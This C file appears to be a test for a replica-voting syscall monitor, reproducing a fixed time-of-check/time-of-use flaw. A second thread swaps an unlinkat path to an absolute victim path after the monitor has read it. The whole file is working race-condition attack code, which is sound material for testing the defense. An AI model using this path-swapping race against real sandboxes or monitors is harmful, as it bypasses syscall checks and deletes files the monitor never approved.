/* A path swapped after the monitor judged it: unlinkat relative to the
 * replica's own /proc/self was let through to the replica's kernel, which
 * read the path again, and the attacker's second thread had made it an
 * absolute one: the victim was removed, unvoted. The monitor now runs such
 * calls itself, from the path it captured. Every replica makes the same
 * calls; only the attacker's second thread flips the path. (The peers'
 * thread writes the path too: "status" over "status".) */
#include <pthread.h>

#include "attack.h"

#define TRIES 500

static char path[4096] = "status";
static char victim[4096];
static volatile int stop, attacking, go, done, restored;

/* Every replica runs it (a thread only the attacker made would be a
 * divergence at its clone); only the attacker's swaps the path: some
 * microseconds into each call, once the monitor has read it, and back
 * once the call returned, before the next one. */
static void *flipper(void *arg)
{
	volatile int spin;
	int seen = 0;

	(void)arg;
	while (!stop) {
		if (!attacking || go == seen)
			continue;
		seen = go;
		for (spin = 0; spin < 20000; spin++)
			;
		strcpy(path, victim);
		while (done != seen && !stop)
			;
		strcpy(path, "status");
		restored = seen;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	int a = attacker(), d = open("/proc/self", O_RDONLY | O_DIRECTORY), i;
	pthread_t t;

	if (argc < 2 || d < 0)
		return 2;
	snprintf(victim, sizeof(victim), "%s/victim", argv[1]);
	attacking = a;
	if (pthread_create(&t, NULL, flipper, NULL))
		return 2;
	for (i = 1; i <= TRIES; i++) {
		go = i;
		unlinkat(d, path, 0);
		done = i;
		while (a && restored != i)
			;
	}
	stop = 1;
	pthread_join(t, NULL);
	return finish(a);
}
